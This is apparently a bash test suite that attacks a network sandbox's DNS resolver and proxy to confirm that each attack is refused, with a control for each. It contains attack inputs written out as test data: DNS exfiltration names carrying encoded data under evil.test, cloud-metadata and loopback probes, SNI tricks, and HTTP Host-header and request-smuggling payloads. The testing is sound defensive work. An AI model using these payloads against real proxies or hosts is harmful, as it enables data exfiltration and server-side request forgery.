#!/bin/bash
# Attacks on the linux backend's resolver and interception (docs/network.md
# "Every client on the linux backend"; docs/threat-model.md lists them): a
# hostile command that reads no proxy variable tries to reach what the
# allowlist does not allow, to send another Host, to leak data through
# DNS, to wear out the proxy's thread, and to change its own network. The
# test hosts run in a network namespace of the test's own (a veth pair,
# TEST-NET-2 addresses: not proxy-clients.sh's), their names from a test
# /etc/hosts, and a DNS server of the test's own there that logs what it
# is asked, as in proxy-clients.sh. Each server answers "SERVED ADDR:PORT" and the bytes
# it got, so a probe sees what reached it. Each refusal has its control.
. "$(dirname "$0")/lib.sh"
PY=/usr/bin/python3

. "$(dirname "$0")/lib-net.sh"
test_hosts_netns ia 198.51.100
free_port() { $PY -c 'import socket;s=socket.socket();s.bind(("127.0.0.1",0));print(s.getsockname()[1])'; }
PL=$(free_port)
A=$T/att
mkdir -p "$A"

# ---- the servers -------------------------------------------------------------
cat >"$A/echo.py" <<'PY'
import socket, sys, threading
# ADDR:PORT...: each connection's first bytes answered "SERVED ADDR:PORT <bytes>"
def serve(ip, port):
    s = socket.socket(socket.AF_INET6 if ":" in ip else socket.AF_INET)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((ip, port)); s.listen(1024)
    while True:
        c, _ = s.accept()
        def h(c):
            try:
                c.settimeout(3); d = c.recv(65536)
                c.sendall(b"SERVED %s:%d %r\n" % (ip.encode(), port, d[:3000]))
            except OSError: pass
            c.close()
        threading.Thread(target=h, args=(c,), daemon=True).start()
for spec in sys.argv[1:]:
    ip, port = spec.rsplit(":", 1)
    threading.Thread(target=serve, args=(ip.strip("[]"), int(port)), daemon=True).start()
threading.Event().wait()
PY
cat >"$A/dns.py" <<'PY'
import socket, struct, sys, threading, time
# ADDR LOG SLOWADDR: a DNS server that logs each question's name and answers
# NXDOMAIN; a name starting with "slow" it answers after a second (its A:
# SLOWADDR, its other types: no data), on a thread of its own
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((sys.argv[1], 53))
def slow(d, a, end):
    time.sleep(1)
    qtype = struct.unpack(">H", d[end + 1:end + 3])[0]
    rr = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + socket.inet_aton(sys.argv[3]) if qtype == 1 else b""
    s.sendto(d[:2] + b"\x81\x80" + d[4:6] + struct.pack(">HHH", 1 if rr else 0, 0, 0) + d[12:end + 5] + rr, a)
while True:
    d, a = s.recvfrom(1500)
    i, labels = 12, []
    while i < len(d) and d[i]:
        labels.append(d[i + 1:i + 1 + d[i]].decode(errors="replace")); i += 1 + d[i]
    with open(sys.argv[2], "a") as f: f.write(".".join(labels) + "\n")
    if labels and labels[0].startswith("slow"):
        threading.Thread(target=slow, args=(d, a, i), daemon=True).start()
        continue
    s.sendto(d[:2] + bytes([0x81, 0x83]) + d[4:6] + b"\0\0\0\0\0\0" + d[12:i + 5], a)
PY
ip netns exec "$NS" $PY "$A/echo.py" "$NSIP:80" "$NSIP:443" "$NSIP:$PL" "$NSIP:20001" "$NSIP:20070" >/dev/null 2>&1 &
CLEANUP_PIDS="${CLEANUP_PIDS:-} $!"
: >"$A/dns.log"
chmod 666 "$A/dns.log"
ip netns exec "$NS" $PY "$A/dns.py" "$NSIP" "$A/dns.log" "$NSIP" >/dev/null 2>&1 &
CLEANUP_PIDS="${CLEANUP_PIDS:-} $!"
# the host's own services on the port an entry names (so it is intercepted)
$PY "$A/echo.py" "127.0.0.1:$PL" "127.0.0.2:$PL" "[::1]:$PL" "$HOSTIP:$PL" >/dev/null 2>&1 &
CLEANUP_PIDS="${CLEANUP_PIDS:-} $!"

cat >"$T/hosts" <<HOSTS
127.0.0.1 localhost
::1 localhost ip6-localhost
$NSIP allowed.test other.test
127.0.0.2 loop.test
169.254.169.254 meta.test
$HOSTIP own.test
HOSTS
printf 'nameserver %s\noptions timeout:2 attempts:1\n' "$NSIP" >"$T/resolv.conf"
chmod 644 "$T/hosts" "$T/resolv.conf"
in_hosts() { # the test's /etc/hosts and /etc/resolv.conf (the test's DNS server)
    local who=()
    [ "$TEST_AS" = user ] && who=(setpriv --reuid=$TEST_UID --regid=$TEST_GID --clear-groups --inh-caps=-all)
    unshare -m --propagation private -- sh -c 'mount --bind "$1" /etc/hosts && mount --bind "$2" /etc/resolv.conf &&
        cd "$3" && shift 3 && exec "$@"' sh "${HOSTS_FILE:-$T/hosts}" "$T/resolv.conf" "$W" "${who[@]}" env HOME="$H" "$@"
}
NOPROXY=(env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy -u ALL_PROXY -u all_proxy)
TALLOW="allowed.test,allowed.test:$PL"
att() { # ARGS...: in the linux sandbox, no proxy variable, $TALLOW
    in_hosts "$CORDON" run --backend linux --allow-net "${ALLOW_NET:-$TALLOW}" --expose "$A" --stats "$W/a.json" -- \
        "${NOPROXY[@]}" "$@"
}
att_with() { # LIST ARGS...: att with LIST as the allowlist
    local ALLOW_NET=$1
    shift
    att "$@"
}
for _ in $(seq 50); do
    [ "$($PY -c 'import socket,sys
for h, p in (sys.argv[1], 80), ("127.0.0.1", int(sys.argv[2])), ("::1", int(sys.argv[2])):
    socket.create_connection((h, p), timeout=1).close()
print("up")' "$NSIP" "$PL" 2>/dev/null)" = up ] && break
    sleep 0.1
done

# ---- the probes ----------------------------------------------------------------
cat >"$A/tcp.py" <<'PY'
import errno, socket, sys
# ADDR/PORT...: each connected, sent a line, read to EOF; "SERVED" when a
# server answered, "refused" when the connection was closed or reset
# (the proxy's refusal), else the error's name
def probe(host, port):
    try:
        scope = 0
        if "%" in host:
            host, dev = host.split("%"); scope = socket.if_nametoindex(dev)
        s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET); s.settimeout(5)
        s.connect((host, port, 0, scope) if ":" in host else (host, port))
        s.sendall(b"hello\r\n\r\n")
        out = b""
        while True:
            d = s.recv(4096)
            if not d: break
            out += d
    except (ConnectionResetError, BrokenPipeError):
        return "refused"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e))
    return "SERVED" if out.startswith(b"SERVED") else "refused" if not out else "other"
print(" ".join(probe(h, int(p)) for h, p in (a.rsplit("/", 1) for a in sys.argv[1:])))
PY
cat >"$A/dnsq.py" <<'PY'
import socket, struct, sys
# NAME[/TYPE]...: each asked of the sandbox's resolver; its rcode, answer count and A address
def ask(name, qtype=1, raw=None):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.connect(("127.0.0.1", 53))
    q = raw or struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + b"".join(
        bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", qtype, 1)
    s.send(q)
    try: r = s.recv(1500)
    except socket.timeout: return "none"
    rc, an = r[3] & 15, struct.unpack(">H", r[6:8])[0]
    a = socket.inet_ntoa(r[-4:]) if an and r[-6:-4] == b"\0\x04" else "-"
    return "%s:%d:%s" % ({0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}.get(rc, rc), an, a)
TYPES = {"A": 1, "AAAA": 28, "TXT": 16, "ANY": 255, "MX": 15, "CNAME": 5}
out = []
for arg in sys.argv[1:]:
    name, _, t = arg.partition("/")
    out.append(ask(name, TYPES.get(t or "A", 1)))
print(" ".join(out))
PY
chmod -R a+rX "$A"

# ---- addresses: what the target is (getsockname) --------------------------------
check_out "control: the test host and the host's loopback services answer, unsandboxed" \
    "SERVED SERVED SERVED SERVED SERVED" \
    as_user $PY "$A/tcp.py" "$NSIP/$PL" "127.0.0.1/$PL" "127.0.0.2/$PL" "::1/$PL" "$HOSTIP/$PL"
check_out "linux: an allowed name on the entry's port, and its pool address as IPv4-mapped IPv6, reach the test host" \
    "SERVED SERVED" att sh -c 'a=$(getent hosts allowed.test | cut -d" " -f1); python3 "$1" "allowed.test/$2" "::ffff:$a/$2"' \
    sh "$A/tcp.py" "$PL"
NSHEX=$(printf '%02x%02x:%02x%02x' $(echo "$NSIP" | tr . ' '))
# the sandbox's own (loopback, unspecified) and the resolver's pool are
# local: the proxy takes the connection and refuses it; the rest has no route
LOCAL=("127.0.0.1/$PL" "127.0.0.2/$PL" "127.255.255.254/$PL" "::1/$PL" "0.0.0.0/$PL" "::/$PL"
    "::ffff:127.0.0.1/$PL" "::ffff:127.0.0.2/$PL"
    "198.18.0.0/$PL" "198.18.0.2/$PL" "198.18.200.1/$PL" "198.19.255.255/$PL" "::ffff:198.18.0.2/$PL")
UNROUTED=("::7f00:1/$PL" "64:ff9b::7f00:1/$PL" "2002:7f00:1::/$PL"
    "$HOSTIP/$PL" "::ffff:$HOSTIP/$PL" "$NSIP/$PL" "::ffff:$NSIP/$PL" "64:ff9b::$NSHEX/$PL"
    "169.254.169.254/80" "169.254.169.254/$PL" "::ffff:169.254.169.254/80" "fd00:ec2::254/80"
    "10.0.0.1/$PL" "192.168.0.1/$PL" "172.16.0.1/$PL" "100.64.0.1/$PL" "fe80::1%lo/$PL" "fc00::1/$PL"
    "0.1.2.3/$PL" "240.0.0.1/$PL")
N=${#LOCAL[@]}
M=${#UNROUTED[@]}
check_out "linux: $N of the sandbox's own and the pool's addresses not in the list (loopback, mapped, unspecified, pool addresses never given): taken and refused" \
    "$(printf 'refused%.0s ' $(seq "$N") | sed 's/ $//')" att $PY "$A/tcp.py" "${LOCAL[@]}"
check_contains "... each recorded as a denial (the loopback address)" "\"target\": \"127.0.0.2:$PL\"" cat "$W/a.json"
check_contains "... (a pool address never given, which no entry allows)" \
    '"rule": "an address the sandbox'"'"'s resolver did not give", "host_has": null, "suggestion": "cannot be allowed"' cat "$W/a.json"
check_out "linux: $M other addresses not in the list (the host's own and private ones, metadata, NAT64, compatible, 6to4, link-local) have no route" \
    "$(printf 'ENETUNREACH%.0s ' $(seq "$M") | sed 's/ $//')" att $PY "$A/tcp.py" "${UNROUTED[@]}"
check_out "linux: the same addresses once listed (control: the loopback service, the host's own address)" \
    "SERVED SERVED" att_with "$TALLOW,127.0.0.2:$PL,$HOSTIP:$PL" $PY "$A/tcp.py" "127.0.0.2/$PL" "$HOSTIP/$PL"
check_out "linux: an allowed name on a port of no entry of it: refused by the policy" "refused" \
    att_with "allowed.test,other.test:$PL" sh -c 'python3 "$1" "allowed.test/$2"' sh "$A/tcp.py" "$PL"
check_out "control: names the host maps to its loopback, to the metadata address, to its own address answer, unsandboxed" \
    "SERVED SERVED" in_hosts $PY "$A/tcp.py" "loop.test/$PL" "own.test/$PL"
check_out "linux: those names listed: their pool addresses reach nothing (every address the proxy resolves is checked)" \
    "refused refused refused" att_with "loop.test:$PL,meta.test:$PL,own.test:$PL" $PY "$A/tcp.py" "loop.test/$PL" \
    "meta.test/$PL" "own.test/$PL"
check_contains "... recorded with the address" "resolves to 169.254.169.254 (cloud metadata address" cat "$W/a.json"
check_contains "... the record's suggestion is the address, as the log line's (not the name, which is listed)" \
    '"target": "loop.test:'"$PL"'", "rule": "resolves to 127.0.0.2 (loopback address; allowed only when the list names that address)", "host_has": null, "suggestion": "--allow-net 127.0.0.2:'"$PL"'"' cat "$W/a.json"
pool_via_proxy() { # the explicit proxy takes a pool address as the IP literal it is
    in_hosts "$CORDON" run --backend linux --allow-net "$TALLOW" -- sh -c \
        'a=$(getent hosts allowed.test | cut -d" " -f1); curl -s -o /dev/null -w "%{http_code}\n" -x "$HTTP_PROXY" "http://$a/"'
}
check_out "linux: a pool address named to the proxy itself (HTTP_PROXY): 403, not its name" "403" pool_via_proxy
many_ports() { # 70 entries of other ports: 64 intercepted, the rest refused by Landlock, none reached
    local list=$TALLOW i
    for i in $(seq 20001 20070); do list="$list,other.test:$i"; done
    att_with "$list" $PY "$A/tcp.py" "other.test/20001" "other.test/20070" "$NSIP/20001"
}
LL_NET=ECONNREFUSED
[ "$(cordon check 2>&1 | sed -n 's/.*landlock: ABI \([0-9]*\).*/\1/p' | head -n 1)" -ge 4 ] && LL_NET=EACCES
check_out "linux: past 64 intercepted ports: one intercepted reaches the name's host, one past them is refused, an unlisted address too" \
    "SERVED $LL_NET ENETUNREACH" many_ports

# ---- the resolver: exfiltration, strict parsing, floods ----------------------------
: >"$A/dns.log"
check_out "linux: unlisted names, any type: NXDOMAIN; a listed one's AAAA, TXT, ANY: no data; its A in mixed case: the pool" \
    "NXDOMAIN:0:- NXDOMAIN:0:- NXDOMAIN:0:- NOERROR:0:- NOERROR:0:- NOERROR:0:- NOERROR:1:198.18.0.1" \
    att $PY "$A/dnsq.py" c2VjcmV0.evil.test c2VjcmV0.evil.test/TXT other.test/AAAA allowed.test/AAAA allowed.test/TXT \
    allowed.test/ANY AlLoWeD.TeSt
check_out "... and nothing of it reached a real resolver (the test's DNS server logged nothing)" "" cat "$A/dns.log"
dns_control() { in_hosts $PY -c 'import socket; socket.getaddrinfo("c2VjcmV0.evil.test", 80)' 2>/dev/null; sort -u "$A/dns.log"; }
check_out "control: the test's DNS server logs what it is asked" "c2VjcmV0.evil.test" dns_control
: >"$A/dns.log"
check_out "linux: a wildcard entry: its subdomain (data in the label) gets a pool address, no real lookup" "NOERROR:1:198.18.0.1" \
    att_with "*.wild.test:$PL" $PY "$A/dnsq.py" data-in-the-label.wild.test
check_out "... (the test's DNS server logged nothing)" "" cat "$A/dns.log"
# (documented: a wildcard entry lets the command name any subdomain, which
# the proxy looks up on the host once the command connects to it)
wild_connect() {
    att_with "*.wild.test:$PL" $PY "$A/tcp.py" "data-in-the-label.wild.test/$PL" >/dev/null 2>&1
    cat "$A/dns.log"
}
check_contains "linux: connecting to it makes the proxy look the name up on the host (a wildcard's documented cost)" \
    "data-in-the-label.wild.test" wild_connect

# ---- the host's lookup made when the resolver answers (proxy-prefetch.c) ----------------
# slow.test: the test's DNS server answers it after a second
one_line() { "$@" | tr '\n' ' ' | sed 's/ $//'; }
prefetch_alone() {
    : >"$A/dns.log"
    att_with "slow.test:$PL" $PY "$A/dnsq.py" slow.test
    grep -c '^slow\.test$' "$A/dns.log" >"$T/alone.n"
    [ "$(cat "$T/alone.n")" -gt 0 ] && echo "looked up" || echo "not looked up"
}
check_out "linux: a name an entry names, asked of the resolver and never connected to: the proxy looks it up on the host at once" \
    "NOERROR:1:198.18.0.1 looked up" one_line prefetch_alone
prefetch_wait() {
    : >"$A/dns.log"
    att_with "slow.test:$PL" sh -c 'getent hosts slow.test >/dev/null && python3 "$1" "slow.test/$2"' sh "$A/tcp.py" "$PL"
    [ "$(grep -c '^slow\.test$' "$A/dns.log")" = "$(cat "$T/alone.n")" ] && echo "one lookup" || echo "more lookups"
}
check_out "linux: a connection made during that lookup waits for it (SERVED after the second), and makes no lookup of its own" \
    "SERVED one lookup" one_line prefetch_wait
prefetch_flood() {
    : >"$A/dns.log"
    att_with "flood.test:$PL" $PY "$A/dnsq.py" $(for _ in $(seq 300); do echo flood.test; done) |
        tr ' ' '\n' | sort | uniq -c | awk '{ print $1, $2 }'
    n=$(grep -c '^flood\.test$' "$A/dns.log")
    [ "$n" -gt 0 ] && [ "$n" -le 12 ] && echo "few lookups" || echo "$n lookups"
}
check_out "linux: 300 queries of one listed name: each answered, the host asked once every 2 s at most (a failed answer is kept too)" \
    "300 NOERROR:1:198.18.0.1 few lookups" one_line prefetch_flood
# the host's answer changes: kept 2 s, then asked again
cp "$T/hosts" "$T/hosts-swap"
echo "$NSIP swap.test" >>"$T/hosts-swap"
chmod 666 "$T/hosts-swap"
cat >"$A/swap.py" <<'PY'
import subprocess, sys, time
cordon, tcp, port, hosts = sys.argv[1:5]
script = 'for _ in 1 2; do read x; getent hosts swap.test >/dev/null; python3 "$1" "swap.test/$2"; done'
p = subprocess.Popen([cordon, "run", "--backend", "linux", "--allow-net", "swap.test:" + port, "--expose",
                      tcp.rsplit("/", 1)[0], "--", "sh", "-c", script, "sh", tcp, port],
                     stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
out = []
p.stdin.write("\n"); p.stdin.flush(); out.append(p.stdout.readline().strip())
with open(hosts, "r+") as f:  # in place: the bind mount shows the same file
    text = f.read().replace(" swap.test", " old-swap.test") + "127.0.0.2 swap.test\n"
    f.seek(0); f.write(text); f.truncate()
time.sleep(2.5)
p.stdin.write("\n"); p.stdin.flush(); out.append(p.stdout.readline().strip())
p.wait()
print(" ".join(out))
PY
chmod a+r "$A/swap.py"
swap_probe() ( HOSTS_FILE=$T/hosts-swap in_hosts $PY "$A/swap.py" "$CORDON" "$A/tcp.py" "$PL" "$T/hosts-swap" )
check_out "linux: the host's answer changes to a loopback address: 2.5 s later the name's connection is refused (the new answer, checked)" \
    "SERVED refused" swap_probe
cat >"$A/dnsbad.py" <<'PY'
import socket, struct
# malformed queries, then a good one: each rcode, or "none" (dropped)
def send(q):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(("127.0.0.1", 53)); s.send(q)
    try: return str(s.recv(1500)[3] & 15)
    except socket.timeout: return "none"
name = b"\x07allowed\x04test\x00"
hdr = lambda qd, ar=0, flags=0x0100: struct.pack(">HHHHHH", 1, flags, qd, 0, 0, ar)
print(" ".join(send(q) for q in [
    hdr(2) + name + b"\0\1\0\1" + name + b"\0\1\0\1",          # two questions: NOTIMP
    hdr(1) + b"\xc0\x0c" + b"\0\1\0\1",                         # a compression pointer: FORMERR
    hdr(1) + name[:-3],                                          # truncated: FORMERR
    hdr(1) + b"\x03a.b\x04test\x00" + b"\0\1\0\1",              # a dot inside a label: NXDOMAIN
    hdr(1) + b"\x05al\x00ed\x04test\x00" + b"\0\1\0\1",         # a NUL inside: NXDOMAIN
    hdr(1) + b"\x3f" + b"a" * 63 + b"\x00" + b"\0\1\0\1",       # not listed: NXDOMAIN
    hdr(1, flags=0x8100) + name + b"\0\1\0\1",                  # a response: dropped
    b"\x01",                                                     # no header: dropped
    hdr(1) + name + b"\0\1\0\3",                                 # class CH: REFUSED
    hdr(1) + name + b"\0\1\0\1"]))                               # then a good one
PY
chmod a+r "$A/dnsbad.py"
check_out "linux: malformed queries get FORMERR, NOTIMP or nothing, and the resolver answers after them" \
    "4 1 1 3 3 3 none none 5 0" att $PY "$A/dnsbad.py"
cat >"$A/dnsflood.py" <<'PY'
import socket, struct, sys
# N REPEAT: N distinct unlisted names, then one REPEAT times, then a listed one
def q(name, i):
    return struct.pack(">HHHHHH", i & 0xffff, 0x0100, 1, 0, 0, 0) + b"".join(
        bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0\0\1\0\1"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.connect(("127.0.0.1", 53))
n, rep = int(sys.argv[1]), int(sys.argv[2])
got = 0
for i, name in enumerate(["x%d.evil.test" % i for i in range(n)] + ["again.evil.test"] * rep + ["allowed.test"]):
    s.send(q(name, i))
    try: r = s.recv(1500); got += 1
    except socket.timeout: pass
print(got, r[3] & 15)
PY
chmod a+r "$A/dnsflood.py"
att $PY "$A/dnsflood.py" 300 300 >"$T/flood.out" 2>"$T/flood.err"
check_out "linux: a flood of 600 queries of unlisted names: each answered, then the listed name" "601 0" cat "$T/flood.out"
check_out "... the caller's log has the first 256 denials and one line saying more were not shown (not one line a query)" \
    "256 1" sh -c 'echo "$(grep -c "network: denied" "$1") $(grep -c "more than 256 denials" "$1")"' sh "$T/flood.err"
cat >"$A/pool.py" <<'PY'
import socket, struct, sys
# N: N distinct names of *.wild.test asked; the first's address asked again; the last answers' rcodes
def ask(s, name, i):
    s.send(struct.pack(">HHHHHH", i & 0xffff, 0x0100, 1, 0, 0, 0) + b"".join(
        bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0\0\1\0\1")
    return s.recv(1500)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect(("127.0.0.1", 53))
n = int(sys.argv[1])
first = ask(s, "n0.wild.test", 0)[-4:]
for i in range(1, n - 1): ask(s, "n%d.wild.test" % i, i)
last = ask(s, "n%d.wild.test" % (n - 1), n - 1)
again = ask(s, "n0.wild.test", n)
print(socket.inet_ntoa(first), socket.inet_ntoa(last[-4:]), last[3] & 15, ask(s, "over.wild.test", n + 1)[3] & 15,
      "same" if again[-4:] == first else "changed")
PY
chmod a+r "$A/pool.py"
check_out "linux: a wildcard's pool is bounded: 16384 names get addresses, the next SERVFAIL, the first keeps its own" \
    "198.18.0.1 198.18.64.0 0 2 same" att_with "*.wild.test" $PY "$A/pool.py" 16384

# ---- TLS on 443: the ClientHello's server name --------------------------------------
cat >"$A/tls.py" <<'PY'
import errno, socket, struct, sys
# HOST KIND...: a ClientHello of each kind sent to HOST:443; SERVED or refused
def l2(b): return struct.pack(">H", len(b)) + b
def sni(*names):
    ext = b""
    for n in names: ext += b"\0\0" + l2(l2(b"\0" + l2(n)))
    return ext
def hello(exts, records=1):
    body = b"\3\3" + b"\0" * 32 + b"\0" + l2(b"\x13\x01") + b"\1\0" + l2(exts)
    hs = b"\1" + struct.pack(">I", len(body))[1:] + body
    if records == 1: return b"\x16\3\1" + l2(hs)
    return b"\x16\3\1" + l2(hs[:20]) + b"\x16\3\1" + l2(hs[20:])
KINDS = {"sni": hello(sni(b"allowed.test")), "none": hello(b""), "upper": hello(sni(b"ALLOWED.TEST")),
         "dot": hello(sni(b"allowed.test.")), "other": hello(sni(b"other.test")),
         "two": hello(sni(b"allowed.test") + sni(b"other.test")), "list2": hello(b"\0\0" + l2(l2(b"\0" + l2(b"allowed.test") + b"\0" + l2(b"other.test")))),
         "split": hello(sni(b"allowed.test"), 2), "idn": hello(sni("allowed.tést".encode())),
         "nul": hello(sni(b"allowed.test\0other.test")), "sslv2": b"\x80\x2e\x01\x00\x02" + b"\0" * 45,
         "http": b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n", "ip": hello(sni(b"192.0.2.1"))}
out = []
for k in sys.argv[2:]:
    try:
        s = socket.create_connection((sys.argv[1], 443), timeout=5); s.sendall(KINDS[k]); d = b""
        while True:
            r = s.recv(4096)
            if not r: break
            d += r
        out.append("SERVED" if d.startswith(b"SERVED") else "refused")
    except (ConnectionResetError, BrokenPipeError): out.append("refused")
    except OSError as e: out.append(errno.errorcode.get(e.errno, str(e)))
print(" ".join(out))
PY
chmod a+r "$A/tls.py"
TLSK="sni none upper dot other two list2 split idn nul sslv2 http ip"
check_out "control: the test host takes every one of these first bytes, unsandboxed" \
    "$(printf 'SERVED%.0s ' $TLSK | sed 's/ $//')" as_user $PY "$A/tls.py" "$NSIP" $TLSK
check_out "linux: on 443 only the name's SNI (any case) or none passes; a trailing dot, another name, two names, a split hello, IDN bytes, a NUL, SSLv2, plain HTTP, an IP: refused" \
    "SERVED SERVED SERVED refused refused refused refused refused refused refused refused refused refused" \
    att $PY "$A/tls.py" allowed.test $TLSK

# ---- HTTP on 80: the head the upstream gets ------------------------------------------
cat >"$A/http.py" <<'PY'
import ast, socket, sys
# HOST REQ...: each request (backslash escapes) on a connection of its own: the
# proxy's status, or what the server got: "ok" when that is one request for
# allowed.test in origin form, "LEAK" when anything else reached it
def judge(got):
    head = got.split(b"\r\n\r\n")[0].split(b"\r\n")
    hosts = [l for l in head if l.lower().startswith(b"host:")]
    one = got.count(b"HTTP/1.") == 1 and hosts == [b"Host: allowed.test"]
    return "ok" if one and head[0].split(b" ")[1].startswith(b"/") and b"other" not in got else "LEAK"
out = []
for req in sys.argv[2:]:
    try:
        s = socket.create_connection((sys.argv[1], 80), timeout=5)
        s.sendall(req.encode().decode("unicode_escape").encode("latin-1")); d = b""
        while True:
            r = s.recv(4096)
            if not r: break
            d += r
    except OSError as e:
        out.append(type(e).__name__); continue
    if d.startswith(b"SERVED"):
        out.append(judge(ast.literal_eval(d.split(b" ", 2)[2].decode().strip())))
    else:
        out.append(d.split(b" ")[1].decode() if d.startswith(b"HTTP/") else "closed")
print(" ".join(out))
PY
chmod a+r "$A/http.py"
REQS=('GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n'
    'GET / HTTP/1.1\r\nHost: ALLOWED.test.:8080\r\n\r\n'
    'GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: other.test\r\n\r\n'
    'GET / HTTP/1.1\r\nHost: other.test\r\n\r\n'
    'GET / HTTP/1.1\r\nHost: allowed.test\r\n other.test\r\n\r\n'
    'GET / HTTP/1.1\r\nHost : other.test\r\nHost: allowed.test\r\n\r\n'
    'GET / HTTP/1.1\r\nHost: allowed.test other.test\r\n\r\n'
    'GET / HTTP/1.1\r\nHost: allowed.test\x00other.test\r\n\r\n'
    'GET / HTTP/1.1\r\nHost: user@allowed.test\r\n\r\n'
    'GET http://other.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n'
    'CONNECT other.test:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n'
    'OPTIONS * HTTP/1.1\r\nHost: allowed.test\r\n\r\n'
    'GET / HTTP/1.1\nHost: allowed.test\n\nGET / HTTP/1.1\r\nHost: other.test\r\n\r\n'
    'GET / HTTP/1.1\r\nHost: allowed.test\r\nX: a\rHost: other.test\r\n\r\n'
    'POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 40\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: other.test\r\n\r\n'
    'POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: other.test\r\n\r\n'
    'POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\n\r\nGET / HTTP/1.1\r\nHost: other.test\r\n\r\n'
    'GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close, Host\r\nX-Forwarded-Host: x\r\n\r\n')
check_out "control: unsandboxed, the test host gets the other Host of these requests" \
    "ok LEAK LEAK LEAK LEAK LEAK LEAK LEAK LEAK LEAK LEAK LEAK LEAK LEAK LEAK LEAK LEAK ok" \
    as_user $PY "$A/http.py" "$NSIP" "${REQS[@]}"
check_out "linux: on 80 no Host trick, absolute form, CONNECT, bare-LF or CR head, smuggling or pipelining reaches another Host" \
    "ok ok 403 403 400 400 ok 400 403 403 403 403 403 400 400 ok ok ok" \
    att $PY "$A/http.py" allowed.test "${REQS[@]}"
check_out "linux: the request target //other.test/x stays a path of allowed.test" \
    "ok" att $PY "$A/http.py" allowed.test 'GET //x/y HTTP/1.1\r\nHost: allowed.test\r\n\r\n'

# ---- UDP, binding, the command's own network ------------------------------------------
cat >"$A/net.py" <<'PY'
import errno, socket, sys
# each of the command's attempts on its own network: what it got
def err(f):
    try: return f()
    except OSError as e: return errno.errorcode.get(e.errno, str(e))
def udp(host, port):
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    s.connect((host, port)); s.send(b"\x12\x34\1\0\0\1\0\0\0\0\0\0\7allowed\4test\0\0\1\0\1")
    try: s.recv(100); return "answered"
    except socket.timeout: return "none"
def bind(fam, kind, addr, listen):
    s = socket.socket(fam, kind)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.bind(addr)
    if listen: s.listen(1)
    return "bound"
def raw(): socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP); return "raw"
def packet(): socket.socket(socket.AF_PACKET, socket.SOCK_RAW); return "packet"
port = int(sys.argv[1])
out = [err(lambda: udp(sys.argv[2], 53)), err(lambda: udp("192.0.2.53", 53)), err(lambda: udp("127.0.0.2", 53)),
       err(lambda: udp("::1", 53)), err(lambda: udp("198.18.0.1", 53)),
       err(lambda: bind(socket.AF_INET, socket.SOCK_STREAM, ("198.18.0.1", port), True)),
       err(lambda: bind(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port), True)),
       err(lambda: bind(socket.AF_INET6, socket.SOCK_STREAM, ("::", port), True)),
       err(lambda: bind(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 53), False)),
       err(lambda: bind(socket.AF_INET, socket.SOCK_DGRAM, ("0.0.0.0", 53), False)),
       err(raw), err(packet)]
print(" ".join(out))
PY
chmod a+r "$A/net.py"
check_out "control: the test's DNS server answers UDP, unsandboxed" "answered" \
    as_user $PY -c 'import socket,sys; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(2); s.sendto(b"\x12\x34\1\0\0\1\0\0\0\0\0\0\1a\0\0\1\0\1",(sys.argv[1],53)); s.recv(100); print("answered")' "$NSIP"
# Landlock's TCP bind rules refuse a listener first where the kernel has them
LL_ABI=$(cordon check 2>&1 | sed -n 's/.*landlock: ABI \([0-9]*\).*/\1/p' | head -n 1)
LL_BIND=EADDRINUSE
[ "${LL_ABI:-0}" -ge 4 ] && LL_BIND=EACCES
check_out "linux: UDP to another resolver, the host's (no route), a pool address: refused; no listener of the command's on an intercepted port or port 53; no raw or packet socket" \
    "ENETUNREACH ENETUNREACH ECONNREFUSED ECONNREFUSED ECONNREFUSED $LL_BIND $LL_BIND $LL_BIND EACCES EACCES EPERM EPERM" \
    att $PY "$A/net.py" "$PL" "$NSIP"
check_out "linux: the command has no capability (CapEff, CapBnd)" "0000000000000000 0000000000000000" \
    att sh -c 'echo $(sed -n "s/^CapEff:\t//p; s/^CapBnd:\t//p" /proc/self/status)'
check_out "linux: it cannot remove the AnyIP route, take lo down, or add an address or a route (rtnetlink)" "EPERM EPERM EPERM EPERM" \
    att sh -c 'for c in "route del local 198.18.0.0/15 dev lo table local" "link set lo down" "addr add 10.9.9.9/32 dev lo" "route add local 0.0.0.0/0 dev lo table local"; do
